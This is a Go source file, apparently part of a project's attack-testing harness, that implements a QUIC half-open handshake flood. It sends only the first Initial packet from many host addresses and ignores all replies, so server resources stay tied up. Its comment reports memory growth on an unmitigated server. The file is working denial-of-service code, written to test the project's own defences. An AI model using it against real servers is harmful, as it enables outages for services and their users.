package attack

import (
	"context"
	"crypto/tls"
	"net"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"

	"github.com/cubelab/cube/transport"
)

// firstOnly is the socket of a half-open handshake: it sends the first
// datagram (the Initial with the ClientHello) and nothing after, and
// hands QUIC nothing it receives, so the handshake never completes and
// never answers a Retry.
type firstOnly struct {
	net.PacketConn // a *net.UDPConn, behind the interface so that quic-go does not use its batch calls
	mu             sync.Mutex
	sent           bool
}

func (f *firstOnly) WriteTo(b []byte, a net.Addr) (int, error) {
	f.mu.Lock()
	first := !f.sent
	f.sent = true
	f.mu.Unlock()
	if !first {
		return len(b), nil
	}
	return f.PacketConn.WriteTo(b, a)
}

func (f *firstOnly) ReadFrom(b []byte) (int, net.Addr, error) {
	for {
		if _, _, err := f.PacketConn.ReadFrom(b); err != nil {
			return 0, nil, err
		}
	}
}

// HalfOpen starts rate QUIC handshakes a second that never complete, the
// i-th from Host(i % hosts), each a socket of its own that it closes
// after 300 ms. Sent counts the Initials sent. Before the server capped
// the handshakes in flight and asked for a Retry under load, 10,000 of
// them from 2,000 hosts in 25 s took it from 16 MB to 306 MB.
func HalfOpen(ctx context.Context, t Target, hosts, rate int) (Result, error) {
	to, err := net.ResolveUDPAddr("udp", t.Addr)
	if err != nil {
		return Result{}, err
	}
	// The sockets are not *net.UDPConn, so quic-go would warn that it
	// cannot size their buffers; transport says so for its own.
	_ = os.Setenv("QUIC_GO_DISABLE_RECEIVE_BUFFER_WARNING", "true")
	tlsConf := &tls.Config{NextProtos: []string{transport.ALPN}, InsecureSkipVerify: true} // never gets as far as a certificate
	var sent, refused atomic.Uint64
	var wg sync.WaitGroup
	i := 0
	pace(ctx, rate, func(time.Duration) {
		local, err := hostAddr(i % hosts)
		i++
		if err != nil {
			refused.Add(1)
			return
		}
		u, err := net.ListenUDP("udp", local)
		if err != nil {
			refused.Add(1)
			return
		}
		sent.Add(1)
		wg.Add(1)
		go func() {
			defer wg.Done()
			tr := &quic.Transport{Conn: &firstOnly{PacketConn: u}}
			dctx, cancel := context.WithTimeout(ctx, 300*time.Millisecond)
			_, _ = tr.Dial(dctx, to, tlsConf, &quic.Config{EnableDatagrams: true})
			cancel()
			_ = tr.Close()
			_ = u.Close()
		}()
	})
	wg.Wait()
	return Result{Sent: sent.Load(), Dials: sent.Load(), Refused: refused.Load()}, nil
}
